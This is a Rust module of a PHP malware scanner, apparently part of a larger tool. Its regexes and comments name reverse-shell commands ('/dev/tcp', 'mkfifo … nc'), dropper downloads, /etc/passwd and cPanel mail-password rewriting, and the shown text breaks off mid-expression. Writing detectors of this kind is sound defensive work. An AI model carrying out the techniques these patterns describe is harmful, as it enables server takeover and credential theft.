//! Malicious files whose harm is plain code, not hidden code run through `eval`: what real
//! attackers leave besides backdoors (`taint` finds those). Each family is recognised by its
//! idea, not by an author's names or strings:
//! - anti-forensics: files backdated with `touch()` to an old time, scripts that delete
//!   themselves;
//! - remote control: reverse and bind shells (a socket and a shell), IRC bots, UDP flooders,
//!   connections to machines the visitor names;
//! - search-engine cloaking: the visitor's browser or referrer checked for search engines,
//!   then content fetched from another site or a redirect to one;
//! - injected JavaScript: obfuscated scripts or scripts from throw-away domains;
//! - droppers: shell commands that download and start a program, PHP code holding request
//!   input written to disk, beacons that mail the file's place on the server home;
//! - phishing and spam: credentials from a form mailed or saved with labels, mass mailers
//!   looping over a typed list of addresses;
//! - web-shell consoles: server reconnaissance shown to the visitor together with a file
//!   manager driven by the request; old shells that run a form field as a variable
//!   (`register_globals`); `ini_restore` of PHP's protections; grabbers of other accounts'
//!   site files.
//!
//! Pure functions over the tokens `php::tokenize` made for `taint` (`tokens`: readers,
//! `input`: request input the cheap way, `signs`: what each family is recognised by), plus a
//! few byte regexes over the text; the work is linear in the tokens. `may_match` is this
//! module's own prefilter: a file without any of its words is not tokenized for it.

use std::cell::OnceCell;
use std::sync::LazyLock;

use regex::bytes::Regex;

use super::app::App;
use super::detect::{Danger, Why};
use super::php::{Tok, Token, same_ci};

mod assembled;
mod bypass;
mod doorways;
mod facts;
mod gates;
mod glued;
mod hidden;
mod input;
mod keyed;
mod kits;
mod mailers;
mod planted;
mod seo;
mod signs;
/// PHP's own dangerous names, for the data-flow analysis's rules too.
pub(crate) use signs::{ESCAPED_NAMES, FUNCTION_NAMES_FROM};
#[cfg(test)]
mod tests;
mod tokens;
mod tools;
mod wordpress;
mod words;

use facts::*;
pub use hidden::hidden;
use input::{credential_line, form_field_to_sink, holds_php_reading_request, input_vars, is_request, reads_input};
pub(crate) use kits::{
    asks_card_and_bank_secret, asks_wallet_phrase, dressed_as_visitors_provider, keeps_card_code, keeps_wallet_secret,
    kit_mailbox, page_posts_password_away, script_posts_to_chat_bot,
};
pub use planted::{analyze as planted, may_match as planted_may_match};
pub(crate) use signs::hunters_named;
use signs::{
    ANTI_PHISHING, CRAWLER, DOWNLOAD, FORM, IP_WILDCARD, IRC, LOCATION_KEYS, MANY_IP_WILDCARDS, OTHER_SITES,
    PIPED_DOWNLOAD, PastTime, RECON_SETTINGS, REDIRECT_TEXT, RUN, RUN_WINDOW, SECURITY_HUNTER, SHELL_BINARY,
    SQL_INTO_FILE, SUBSTITUTED_DOWNLOAD, SYSTEM_LINK, TEXTAREA, THROWAWAY_SCRIPT, URL, VISITOR_ADDRESS, any_word,
    holds_file_time, hunter_bit, is_address, is_own_file, is_shown, names_crawler, obfuscated_script, past_time,
    recon_calls,
};
use tokens::{Budget, ident, is_op, one_of, str_value};
pub(crate) use tools::{written_code, written_code_may_match};
pub(crate) use wordpress::poses_as_wordpress;
use words::{Gate, LiteralGates};

/// A family recognised in a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Shape {
    pub why: Why,
    pub danger: Danger,
    /// Byte offset of the telling place.
    pub at: usize,
}

/// Options of one file's analysis.
#[derive(Debug, Clone, Copy, Default)]
pub struct Options {
    /// A small script (a few hundred tokens): droppers and cleaners are a few lines, so a
    /// weak sign counts more.
    pub small: bool,
}

/// Every word one of the families needs: a file without any of them gives no shape.
static MAY_MATCH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i-u)/home|/etc/passwd|&method=|\b(?:touch|unlink|fsockopen|pfsockopen|socket_create|stream_socket_client|",
        r"stream_socket_server|socket_connect|socket_bind|HTTP_USER_AGENT|HTTP_REFERER|wget|curl|curl_exec|php_uname|",
        r"posix_getpwuid|mail|ini_restore|symlink|gethostbyaddr|phishtank|spamhaus|virustotal|netcraft|",
        r"safebrowsing|urlscan|kaspersky|bitdefender|mcafee|fortinet|zscaler|trendmicro|sophos|avast|",
        r"fwrite|fputs|file_put_contents|outfile|dumpfile|chmod|nohup|wp_set_auth_cookie|surbl|uribl|openphish|",
        r"anti\d*|anti-?bots?|blocker|blacklist|bots|(?-i:Cloaker)|basicbot|uacrawler|refspam|autob/|array_rand|mt_rand|random_int|(?-i:HTTP_HOST|SERVER_NAME)|",
        r"transparencyreport|githubusercontent|killbot|ip-api|pastebin|paste\.ee|rentry|telegram|putenv|imap_open|zif_system|trueuserowners|trueuserdomains|userdomains|domainusers|userdatadomains)\b|<script|<input|<textarea|document\.cookie|",
        // A file-reading stream wrapper starting a literal (`bypass`).
        r"['\x22](?:file:|compress\.(?:zlib|bzip2)://|glob://)|",
        // Hexadecimal text starting like a dangerous function's name (`base64_`, `shell_`,
        // `system`, `assert`, `file_`, `php_`, `passth`, `eval`).
        r"['\x22](?:6261736536345f|7368656c6c5f|73797374656d|617373657274|66696c655f|7068705f|706173737468|6576616c)[0-9a-f]*['\x22]|",
        // Two escaped letters close together (a name spelled in escape codes, not binary bytes).
        r"\\(?:x[4-7][0-9a-f]|1[0-7]{2})[a-z0-9_]{0,3}\\(?:x[4-7][0-9a-f]|1[0-7]{2})|",
        // cPanel's login port as a page's query (`?:2083`, `$_GET[":2083"]`).
        r"[?'\x22]:20(?:8[2367]|9[56])\b|",
        // A back-connect's command (`bash -i >& /dev/tcp/…`, `mkfifo … | nc`).
        r"/dev/(?:tcp|udp)/|\bsh\s+-i\b|\bmkfifo\b",
    ))
    .expect("pattern compiles")
});

/// The largest file read for the small tools' shapes (a doorway sitemap writer, a loader
/// including a temporary file, a virus): each is a script of its own, a few kilobytes.
const SMALL_TOOL_FILE: usize = 128 << 10;

/// Where a file writing sitemaps (`<urlset`, `<sitemapindex`) reads a keyword list kept as
/// text (`file('kw.txt')`) and holds an address ending in a query's field (`'…/news/?video='`).
fn doorway_sitemap(text: &[u8]) -> Option<usize> {
    let at = memchr::memmem::find(text, b"<urlset").or_else(|| memchr::memmem::find(text, b"<sitemapindex"))?;
    (KEYWORD_LIST.is_match(text) && QUERY_ADDRESS.is_match(text)).then_some(at)
}
static KEYWORD_LIST: LazyLock<Regex> = LazyLock::new(|| {
    // (Or joined to the script's folder: fresh162's `$dir . '/raptor.txt'`.)
    Regex::new(concat!(
        r#"(?-u)\bfile\s*\(\s*['"][^'"\n]{1,80}\.txt['"]|\$\w+\s*=\s*['"][^'"\n/]{1,80}\.txt['"]"#,
        r#"|\.\s*['"]/[^'"\n/]{1,80}\.txt['"]"#,
    ))
    .expect("pattern compiles")
});
/// Where a script reads a keyword list kept as text and makes a folder with a home page for
/// each, filled from a template's placeholder (`str_replace('{{ BRAND }}', …)`, fresh162's
/// `seonaga.php`): a doorway generator. A site's pages come from its own database.
fn folder_per_keyword(text: &[u8]) -> Option<usize> {
    memchr::memmem::find(text, b"mkdir")?;
    let at = HOME_PAGE_WRITTEN.find(text)?.start();
    (KEYWORD_LIST.is_match(text) && PLACEHOLDER_FILLED.is_match(text)).then_some(at)
}
static HOME_PAGE_WRITTEN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?-u)\bfile_put_contents\s*\([^;]{0,120}/index\.(?:html?|php)['"]"#).expect("pattern compiles")
});
/// A template's placeholder replaced (`'{{ BRAND }}'`, `'{keyword}'`, `'[KEYWORD]'`, `'%title%'`).
static PLACEHOLDER_FILLED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?-u)\bstr_i?replace\s*\(\s*['"](?:\{\{?\s*\w{1,24}\s*\}\}?|\[\w{1,24}\]|%\w{1,24}%)['"]"#)
        .expect("pattern compiles")
});
static QUERY_ADDRESS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(?-u)['"][^'"\s]{0,200}\?\w{1,24}=['"]"#).expect("pattern compiles"));

/// Where a script printed from PHP (`echo "<script>…"`) sends the visitor elsewhere
/// (`location`, `window.open`) to another site's address, in a file that looks for
/// WordPress's login cookie.
fn script_for_strangers(t: &[Token<'_>]) -> Option<usize> {
    (0..t.len()).find_map(|i| {
        let printing = matches!(t[i].tok, Tok::Ident(n) if same_ci(n, b"echo") || same_ci(n, b"print"));
        let v = t.get(i + 1).and_then(str_value).filter(|_| printing)?;
        let low = crate::php::ascii_lowercase(&v[..v.len().min(STRANGERS_SCRIPT)]);
        let has = |w: &[u8]| memchr::memmem::find(&low, w).is_some();
        (has(b"<script") && (has(b"location") || has(b"window.open")) && has(b"https://")).then_some(t[i].at)
    })
}
/// How much of a printed script is read.
const STRANGERS_SCRIPT: usize = 16 << 10;

/// Where a file that fetches from the internet (`curl_exec`, or a read of an `http` address)
/// includes a temporary file it made (`tempnam(…)`, the path of a `tmpfile()` from
/// `stream_get_meta_data`), directly or through a variable given that path.
/// Or code kept encoded in the file and decoded (fresh114's `cepot.php`: a whole shell in
/// `rawurldecode("%3C%3Fphp…")` written to a `tempnam` file and required): code run from a
/// decoded text. Where, and which of the two.
fn temporary_file_included(text: &[u8], t: &[Token<'_>]) -> Option<(usize, Why)> {
    // (Any case: fresh104's loader writes `curl_ExEC`, `TMPfIle`, `ReqUire`.)
    // (Or an address without its scheme on a code host, fresh114's
    // `raw.githubusercontent.com/…/alfa.php`.)
    let fetches = t.iter().any(|x| ident(x).is_some_and(|n| same_ci(n, b"curl_exec")))
        || (t.iter().any(|x| ident(x).is_some_and(|n| same_ci(n, b"file_get_contents")))
            && (memchr::memmem::find(text, b"http").is_some()
                || memchr::memmem::find(text, b"githubusercontent").is_some()));
    let decodes = || {
        t.iter().enumerate().any(|(i, x)| {
            ident(x).is_some_and(|n| TEMPORARY_DECODERS.iter().any(|d| same_ci(n, d)))
                && is_op(t.get(i + 1), b"(")
                && t.get(i + 2).and_then(str_value).is_some_and(|v| v.len() >= ENCODED_CODE)
        })
    };
    let why = if fetches {
        Why::CodeFromInternet
    } else if decodes() {
        Why::EvalOfDecoded
    } else {
        return None;
    };
    // A path in the server's temporary folders written in the file (`'/tmp/sess_' . md5(…)`).
    let temporary_literal = |x: Option<&Token<'_>>| {
        x.and_then(str_value)
            .is_some_and(|v| [&b"/tmp/"[..], b"/var/tmp/", b"/dev/shm/"].iter().any(|p| v.starts_with(p)))
    };
    let mut temporary: Vec<&[u8]> = Vec::new();
    for i in 0..t.len() {
        if let Tok::Var(v) = t[i].tok
            && is_op(t.get(i + 1), b"=")
            && (tokens::is_call(t, i + 2, &[b"tempnam", b"stream_get_meta_data"])
                || temporary_literal(t.get(i + 2))
                // (`$p = $m['uri'];`, the path out of the metadata: fresh126's `hesh.php`.)
                || (matches!(t.get(i + 2).map(|x| &x.tok), Some(Tok::Var(m)) if temporary.contains(m))
                    && is_op(t.get(i + 3), b"[")))
            && temporary.len() < MAX_TEMPORARY
        {
            temporary.push(v);
        }
        if let Tok::Ident(n) = t[i].tok
            && crate::php::is_include_word(n)
        {
            let k = if is_op(t.get(i + 1), b"(") { i + 2 } else { i + 1 };
            if matches!(t.get(k).map(|x| &x.tok), Some(Tok::Var(v)) if temporary.contains(v)) {
                return Some((t[i].at, why));
            }
        }
    }
    None
}
/// Decoders of a long literal (`ENCODED_CODE` bytes or more) whose text may be written to a
/// temporary file and included.
const TEMPORARY_DECODERS: [&[u8]; 6] =
    [b"base64_decode", b"rawurldecode", b"urldecode", b"gzinflate", b"str_rot13", b"hex2bin"];
const ENCODED_CODE: usize = 256;
/// The most variables holding a temporary file's path followed.
const MAX_TEMPORARY: usize = 8;

/// Where a script reads its own code (`file_get_contents(__FILE__)`, `fopen(__FILE__, …)`),
/// in a script that lists the PHP files of a folder (`glob('*.php')`), writes files, and holds
/// a text starting with PHP's open tag: the code it copies into them.
fn copies_itself(t: &[Token<'_>]) -> Option<usize> {
    let (mut own, mut lists_php, mut open_tag, mut writes) = (None, false, false, false);
    for i in 0..t.len() {
        if tokens::is_call(t, i, &[b"file_get_contents", b"fopen", b"file"])
            && t.get(i + 2).and_then(ident).is_some_and(|n| n == b"__FILE__")
        {
            own.get_or_insert(t[i].at);
        }
        if let Some(v) = str_value(&t[i]) {
            lists_php |= memchr::memmem::find(v, b"*.php").is_some();
            open_tag |= v.trim_ascii_start().starts_with(b"<?php");
        }
        writes |= tokens::is_call(t, i, &[b"fputs", b"fwrite", b"file_put_contents"]);
    }
    own.filter(|_| lists_php && open_tag && writes)
}

/// Where a path to cPanel's mail passwords (`…/etc/` then `…/shadow`) is written, in a file
/// that makes a password hash (`crypt`, or a literal `$6$…` salt).
fn mail_passwords_rewritten(t: &[Token<'_>]) -> Option<usize> {
    let mut shadow = None;
    let (mut etc, mut hashes) = (false, false);
    for (k, x) in t.iter().enumerate() {
        match x.tok {
            Tok::Str(l) => {
                let v = l.value;
                // A domain's own list (`'/etc/' . $domain . '/shadow'`), not the system's
                // `/etc/shadow`.
                let system = memchr::memmem::find(v, b"/etc/shadow").is_some();
                if !system && (v.ends_with(b"/shadow") || v == b"shadow") {
                    shadow.get_or_insert(x.at);
                }
                etc |= !system && (v.ends_with(b"/etc/") || v.ends_with(b"/etc"));
                hashes |= v.len() >= 3 && v[0] == b'$' && matches!(v[1], b'1' | b'5' | b'6') && v[2] == b'$';
            }
            // PHP's own `crypt(…)`, not a class's (`Crypt::encrypt`).
            Tok::Ident(n) => {
                hashes |= n.eq_ignore_ascii_case(b"crypt")
                    && is_op(t.get(k + 1), b"(")
                    && !(k > 0 && (is_op(t.get(k - 1), b"::") || is_op(t.get(k - 1), b"->")))
            }
            _ => {}
        }
    }
    shadow.filter(|_| etc && hashes)
}

/// A name or path spelled a few letters a piece (`"fi"."le"."_p"…`, `'/'.'w'.'p'`): apart from
/// `MAY_MATCH`, whose words a search for literals finds, where a pattern starting at any quote
/// would make it look at every quote.
static SPELLED_IN_PIECES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i-u)['\x22][a-z_./-]{1,3}['\x22]\s*\.\s*['\x22][a-z_./-]{1,3}['\x22]\s*\.\s*['\x22][a-z_./-]{1,3}['\x22]",
    )
    .expect("pattern compiles")
});

/// Whether the file may hold one of the families (cheap, before tokenizing), when it is not
/// tokenized anyway: the families that need a call through a variable, `eval` or a decoder
/// (assembled names, encrypted loaders, string tables) are looked for in every file that may
/// reach a sink (`detect`).
/// Where a file declares or makes a `Cloaker` and speaks of its white and black pages (the
/// YellowCloaker traffic cloaker's `core.php` and `index.php`, fresh162): what reviewers and
/// crawlers see is kept apart from what paying traffic sees.
fn cloaker_class(text: &[u8]) -> Option<usize> {
    let find = |w: &[u8]| memchr::memmem::find(text, w);
    let at = find(b"class Cloaker").or_else(|| find(b"new Cloaker("))?;
    (find(b"white").is_some() && find(b"black").is_some()).then_some(at)
}

/// Two networks' first two numbers in a row of a list (`"64.71", "209.19"`).
static IP_PREFIX_LIST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?-u)["'][0-9]{1,3}\.[0-9]{1,3}["']\s*,\s*["'][0-9]{1,3}\.[0-9]{1,3}["']"#).expect("pattern compiles")
});

pub fn may_match(text: &[u8]) -> bool {
    MAY_MATCH.is_match(text)
        || seo::hidden_links(text).is_some()
        || kits::may_match(text)
        || tools::may_match(text)
        || wordpress::may_match(text)
        || glued::may_match(text)
        || doorways::may_print_remote(text)
        || doorways::may_route_visitors(text)
        || doorways::may_keep_keywords(text)
        || SPELLED_IN_PIECES.is_match(text)
        // An address pattern with wildcards (`"^66.249.*.*"`: a kit's list of the networks it
        // turns away, fresh132's `anti2.php`, whose file holds none of the words above). (Not
        // in `MAY_MATCH`: a pattern starting at a digit slows its literal search.)
        || memchr::memmem::find(text, b".*.*").is_some()
        // (Or networks' first two numbers, for a visitor's address cut so: fresh159's
        // `call.php`.)
        || (memchr::memmem::find(text, b"REMOTE_ADDR").is_some() && IP_PREFIX_LIST.is_match(text))
        // (Or an object's property run: fresh174's `eval($this->m_webInfo)`.)
        || memchr::memmem::find(text, b"eval($this->").is_some()
        // (Last: the other gates pass most files that hold a written key's comparison.)
        || gates::may_match(text)
}

/// What one file's families work out once and share: the application's facts (`App::of`,
/// made when first asked, by the caller too) and which words its literals hold.
#[derive(Default)]
pub struct Shared {
    pub app: OnceCell<App>,
    literals: LiteralGates,
}

/// Every family found in one PHP file.
pub fn analyze(text: &[u8], t: &[Token<'_>], o: Options) -> Vec<Shape> {
    analyze_sharing(text, t, o, &Shared::default())
}

/// `analyze`, with what the file's families share made at most once for the caller and the
/// families that ask (`planted` too; the application's facts for a file manager's check and
/// the caller's own).
pub fn analyze_sharing(text: &[u8], t: &[Token<'_>], o: Options, shared: &Shared) -> Vec<Shape> {
    // The request's variables, found once for this module's families and the kits'.
    let inputs = input_vars(t);
    let f = facts(t, &inputs, &shared.literals);
    let mut out = Vec::new();
    let mut add = |why, danger, at| out.push(Shape { why, danger, at });

    // Anti-forensics.
    if let Some((p, at)) = f.backdated {
        // (Or kept from the owner's changes too: fresh103's re-infector puts its shell back,
        // backdated and read-only.)
        let danger = match (p, o.small || f.self_delete.is_some() || f.made_read_only) {
            (PastTime::DaysAgo | PastTime::FixedDate, true) => Danger::High,
            (PastTime::AnotherFile, true) => Danger::Medium,
            // In a large file alone (test suites set fixed dates on their fixtures): weak.
            (_, false) => Danger::Low,
        };
        add(Why::BackdatesFiles, danger, at);
    }
    if let Some(at) = f.self_delete {
        add(Why::DeletesItself, if f.backdated.is_some() { Danger::High } else { Danger::Medium }, at);
    }

    // Remote control: a socket and a shell, an IRC bot, a UDP flood.
    if let Some(sock) = f.at(F::Socket) {
        if f.has(F::Shell) && f.shell_literal {
            add(Why::RemoteShell, Danger::Critical, sock);
        } else if (f.irc & IRC_MESSAGE != 0 || f.irc & (IRC_NICK | IRC_JOIN) == IRC_NICK | IRC_JOIN)
            && (f.has(F::Write) || f.has(F::SocketSend))
        {
            add(Why::NetworkBot, Danger::High, sock);
        }
    }
    if let Some(at) = f.udp_socket
        && f.has(F::Loop)
        && f.has(F::Write)
        && f.has(F::RunsLong)
    {
        add(Why::NetworkBot, Danger::High, at);
    }

    if let Some(at) = f.socket_from_input {
        add(Why::NetworkFromInput, if o.small { Danger::High } else { Danger::Medium }, at);
    } else if let Some(at) = sends_sql_injection(text, t).or_else(|| relays_flood_order(text, t)) {
        add(Why::NetworkFromInput, Danger::High, at);
    }

    // A mass mailer: addresses from a list the visitor typed, mailed in a loop.
    // Else a mail relay check left by spammers: a small page whose form names the address mail
    // is sent to (to test the server can send before a mass mailer is uploaded).
    if let Some(at) = f.mail_to_input {
        if f.has(F::Loop) && TEXTAREA.is_match(text) {
            add(Why::MailFromInput, Danger::High, at);
        } else if o.small && FORM.is_match(text) {
            add(Why::MailFromInput, Danger::Medium, at);
        }
    }

    // The database made to write a file: a web shell, or a library to take over the server.
    if let Some((at, code)) = f.sql_writes_file {
        add(Why::DatabaseWritesFile, if code { Danger::High } else { Danger::Medium }, at);
    }

    // A beacon: the file's place on the server mailed to someone, or posted to a chat bot by a
    // small script (fresh78's `s2t.php`: "File was launched", its address, to Telegram).
    let mailed = f.at(F::Mail).filter(|_| f.location_keys.count_ones() >= 2);
    // (A form posting its visitor's order or message to the shop's chat is not one.)
    let to_bot = || {
        let named = f.location_keys != 0 || f.names_site;
        f.at(F::Fetch).or(f.at(F::CurlExec)).filter(|_| f.chat_bot && o.small && named && !f.request_input)
    };
    if let Some(at) = mailed.or_else(to_bot) {
        add(Why::ReportsItsLocation, Danger::High, at);
    }

    // Phishing: form fields with passwords or cards, labelled, then mailed or saved.
    if let Some(at) = f.secret_line
        && f.credential_lines >= 2
        && (f.has(F::Mail) || f.has(F::Write) || f.has(F::CurlExec) || (f.has(F::Fetch) && f.url_literal))
    {
        add(Why::CredentialCollector, Danger::High, at);
    }

    // A phishing kit's collector that fingerprints its victim: form fields sent away together
    // with the visitor's host name (looked up from the address), then a redirect onwards.
    if let Some(at) = f.at(F::HostName)
        && f.request_input
        && f.redirect
        && (f.has(F::Mail) || f.has(F::Write) || f.has(F::CurlExec))
        && (o.small || text.len() <= COLLECTOR_WHOLE_FILE)
    {
        add(Why::CredentialCollector, Danger::High, at);
    }

    // Cloaking: search engines' crawlers (or visitors coming from them) told apart, then
    // content fetched from another site or a redirect to one; or visitors coming from search
    // engines given another site's script (WP-VCD's ad injector). (A script skipped for bots
    // by their browser's name is an analytics plugin's care, not cloaking.)
    if let Some(ua) = f.user_agent {
        let fetch = f.has(F::CurlExec) || f.has(F::Fetch);
        let from_search = f.referrer && f.foreign_script;
        // A page kept in a file of its own, printed to crawlers and to visitors arriving from
        // a search engine (or while the crawlers are sent away from every other page), then
        // the script stops (a Chinese gambling doorway behind a site's own front page;
        // fresh80's `readme.txt` printed to Googlebot on the home page of WordPress's
        // `index.php`).
        // Or a PHP file's text printed so (fresh83's cloaker shows Googlebot `pp.php`, read whole
        // from its folder, and includes the site for everyone else). (Not a script's: a
        // single-page application serves its `sw.js` by `readfile` beside its crawlers' page.)
        // (Or included: `include __DIR__ . '/home.html'`, fresh86's slot doorway behind a site.)
        // (Last, and the flags first: each reading walks the whole file.)
        // (Or a static page included for crawlers and the site's PHP for everyone else, in the
        // `else` branch: fresh100's cloaker of a Laravel site. A PHP site renders its pages for
        // crawlers itself; a single-page application's snapshot is for one made of scripts.)
        // (Or, when a test of the visitor for a crawler holds, one PHP file included, and
        // another in the other branches: fresh100's `page-info.php` gives Googlebot the gambling
        // `page-info1.php`, people `page-info2.php`.)
        let stored_page = || {
            (f.stops
                && (f.referrer || (f.redirect && prints_kept_file(t, &[b".txt"])) || prints_kept_file(t, &[b".php"]))
                && (fetch || includes_kept_page(t)))
                || includes_kept_page_else_php(t)
                || includes_other_php_for_crawlers(t)
        };
        if f.crawler_words && (((fetch || f.redirect) && f.url_literal) || from_search || stored_page()) {
            // The signs are gathered over the whole file: in a large one (a cache plugin that
            // treats crawlers apart and fetches pages) they need not belong together.
            // In a large one, they count when they stand together around one reading of the
            // visitor's browser or referrer (a doorway padded with text to look ordinary).
            let together = o.small || text.len() <= CLOAK_WHOLE_FILE || f.ua_reads.iter().any(|&i| cloak_near(t, i));
            let danger = if together { Danger::High } else { Danger::Low };
            add(Why::SearchEngineCloaking, danger, ua);
        }
    }

    // A page of its own shown only to crawlers (a gambling doorway behind a site's front page).
    if let Some(at) = page_for_crawlers(text, t, &f.ua_reads) {
        add(Why::SearchEngineCloaking, Danger::High, at);
    } else if let Some(at) = cloaker_class(text) {
        add(Why::SearchEngineCloaking, Danger::High, at);
    }

    // A phishing kit's filter: the visitor (address, host name, browser, referrer) checked
    // against security services or whole networks' address patterns, and turned away.
    let visitor = f.visitor_address || f.user_agent.is_some();
    // (Or networks' first two numbers, the visitor's address cut to its first two parts:
    // fresh159's Loco kit's `call.php`.)
    let cut_address = || f.ip_prefixes >= MANY_IP_WILDCARDS && memchr::memmem::find(text, b"explode").is_some();
    let hunted = f.hunters.count_ones() >= 2 || f.ip_wildcards >= MANY_IP_WILDCARDS || cut_address();
    // (Turned away by a status alone too: XBALTI's filter answers `404 Not Found` and goes on.)
    if visitor && hunted && (f.stops || f.redirect || f.refuses) {
        add(Why::PhishingBotFilter, Danger::High, f.first_hunter.or(f.user_agent).unwrap_or(0));
    } else if let Some(at) = (f.stops || f.redirect).then(|| kit_filter_service(text)).flatten() {
        // Or the visitor handed to a filtering service kits rent (Killbot, antibot.pw), or
        // looked up for a hosting or proxy network (ip-api's `hosting,proxy` fields) before
        // being turned away (fresh107's AFCU and Wells kits).
        add(Why::PhishingBotFilter, Danger::High, at);
    } else if let Some(at) = kit_filter_api(text) {
        // Or a client of such a service's API, its caller turning the visitor away (fresh115's
        // `Killbot.php`): nothing but a kit asks it.
        add(Why::PhishingBotFilter, Danger::Medium, at);
    } else if let Some(at) = RANDOM_SITE_REDIRECT.find(text).map(|m| m.start()) {
        // Or turned away to a made-up site, its name drawn at random (fresh132's Liberbank
        // kit: `Location: http://www.` and a random number in base64): no site sends its
        // visitors to a name that does not exist.
        add(Why::PhishingBotFilter, Danger::High, at);
    } else if let Some(at) = kit_settings(text) {
        // Or a kit's settings: the visitor-filtering service it rents and the chat bot that
        // receives its victims' data (fresh132's Netflix kits' `config.php`, `settings.php`).
        add(Why::PhishingBotFilter, Danger::High, at);
    } else if f.referrer && f.hunters & ANTI_PHISHING != 0 && (f.stops || f.redirect) {
        // Or visitors arriving from an anti-phishing service's report sent away (fresh107's
        // Spox_dz filter: a referrer from phishtank.com goes to cpanel.com): a site has no
        // reason to ask.
        add(Why::PhishingBotFilter, Danger::High, f.first_hunter.unwrap_or(0));
    }

    // Droppers: a script's text fetched from a code host (its address written whole) in a
    // file that writes files (fresh79's remote droppers plant GitHub-hosted shells), or that
    // runs a text as a page of PHP (`eval("?>" . $code)`, fresh83's loader whose fetching
    // functions' names are made of `chr` calls).
    // (curl writes what it fetches itself given `CURLOPT_FILE`: fresh104's theme head.)
    let fetches = f.has(F::Fetch) || f.has(F::CurlExec);
    let saves = || f.has(F::Write) || (f.has(F::CurlExec) && t.iter().any(|x| ident(x) == Some(b"CURLOPT_FILE")));
    if let Some(at) = f.code_host_script
        && ((fetches && saves()) || runs_text_as_page(t))
    {
        add(Why::CodeFromInternet, Danger::High, at);
    } else if let Some(at) = f.remote_data_file
        && fetches
        && runs_text_as_page(t)
    {
        // A picture's or a text's address fetched and run as a page (fresh106's `love.php`).
        add(Why::CodeFromInternet, Danger::High, at);
    } else if let Some(at) = f.code_host_file
        && fetches
        && (runs_text_as_page(t)
            || (text.len() <= SMALL_TOOL_FILE
                && (saves_fetched(t) || (f.has(F::CurlExec) && t.iter().any(|x| ident(x) == Some(b"CURLOPT_FILE"))))
                && (names_php_file(t) || includes_variable(t))))
    {
        // (Any file there, a picture or a text too, when a fetched text is run as a page, or
        // saved as it came by a small tool that names a PHP file or includes one it names by a
        // variable: fresh104's mass dropper saves `gecko.txt` as `32165465.php` in many
        // folders. Yii's generator of PHP from Apache's `mime.types` saves what it made.)
        add(Why::CodeFromInternet, Danger::High, at);
    }
    // The host's limits on PHP got round: an exploit of PHP's memory, or a program PHP starts
    // given a library to preload, a Shellshock function, or a command in an IMAP address.
    if let Some(at) = f.memory_exploit.or_else(|| limits_bypassed(t, &f)) {
        add(Why::BypassesPhpLimits, Danger::High, at);
    }
    // The account's mailboxes given the intruder's password: cPanel keeps each domain's
    // mail passwords in `~/etc/DOMAIN/shadow`, and the file is written again with a hash
    // made here (fresh91's `smtp.php` prints every mailbox with its new password).
    // (The path may be spelled in escape codes, `"\57\x73\x68\141…"`: fresh102's YAK-obfuscated
    // copy; its `crypt` call is not.)
    if f.has(F::Write)
        && (memchr::memmem::find(text, b"shadow").is_some() || memchr::memmem::find(text, b"crypt").is_some())
        && let Some(at) = mail_passwords_rewritten(t)
    {
        add(Why::RewritesMailPasswords, Danger::High, at);
    }
    // The account's contact address written: the intruder's address then gets cPanel's
    // password-reset mail (fresh102's `reset.php`, fresh74's and fresh80's shells' "reset
    // password" tools). cPanel writes these files itself; a site's PHP has no reason to.
    if let Some(at) = f.account_contact
        && (f.has(F::Write) || f.has(F::FileChange))
    {
        add(Why::ChangesAccountContact, Danger::High, at);
    }
    // A fake cPanel login on the site's own pages: its address, or its hook, names cPanel's
    // port as a query (fresh83's `wp-login.php` sends the site's administrators there).
    if let Some(at) = f.fake_cpanel_login {
        add(Why::PhishingPage, Danger::High, at);
    }
    // A virus: the script's own code read and written, behind an open tag, into the PHP files
    // it lists (fresh101's proof-of-concept infectors prepend themselves to every `*.php`).
    // A sitemap of doorway addresses: every keyword of a list kept as text made a query of the
    // site's address (`?video=…`) and written into sitemaps for search engines (fresh100's
    // sitemap spammers). A site's sitemap lists its own pages, from its database.
    let loader_sized = text.len() <= SMALL_TOOL_FILE;
    if let Some(at) = loader_sized.then(|| doorway_sitemap(text).or_else(|| folder_per_keyword(text))).flatten() {
        add(Why::SpamDoorway, Danger::High, at);
    }
    // Script shown only to visitors who are not logged in to WordPress (the cookies searched
    // for `wordpress_logged_in`), sending them to another address: the owner never sees it
    // (fresh100's click hijacker prepended to admin files).
    if let Some(at) = memchr::memmem::find(text, b"wordpress_logged_in").and_then(|_| script_for_strangers(t)) {
        add(Why::InjectedScript, Danger::High, at);
    }
    // Code fetched from the internet, written to a temporary file and included from there
    // (fresh70's `small-mem.php`, fresh80's PrestaShop-dressed loader): an `eval` in disguise.
    // (Names in any case: `TMPfIle`.)
    // (Or a path in `/tmp/` written in the file.)
    let temporary = || {
        t.iter().any(|x| ident(x).is_some_and(|n| same_ci(n, b"tmpfile") || same_ci(n, b"tempnam")))
            || memchr::memmem::find(text, b"/tmp/").is_some()
            || memchr::memmem::find(text, b"/dev/shm/").is_some()
    };
    if let Some((at, why)) = (loader_sized && temporary()).then(|| temporary_file_included(text, t)).flatten() {
        add(why, Danger::High, at);
    }
    // (A pass of its own, only in files that name PHP files by a pattern.)
    if let Some(at) =
        loader_sized.then(|| memchr::memmem::find(text, b"*.php")).flatten().and_then(|_| copies_itself(t))
    {
        add(Why::InjectsHiddenCode, Danger::High, at);
    }
    // An injector: a line of PHP that loads a file written in front of other files' own text
    // (fresh86's `insert-cloaking.php` puts `<?php include 'cloaker/cloaker.php' ?>` at the top
    // of every page it is given).
    if f.loader_literal
        && f.has(F::Write)
        && f.has(F::Fetch)
        && let Some(at) = loader_put_in_front(t)
    {
        add(Why::InjectsHiddenCode, Danger::High, at);
    }
    if let Some(at) = f.php_dropper_literal
        && f.has(F::Write)
    {
        add(Why::WritesCodeWithInput, Danger::High, at);
    }
    let shell = f.has(F::Shell) || t.iter().any(|x| matches!(x.tok, Tok::Backtick(_)));
    if shell && let Some(at) = download_and_run(t) {
        add(Why::DownloadsProgram, Danger::High, at);
    } else if shell
        && let Some(x) = t
            .iter()
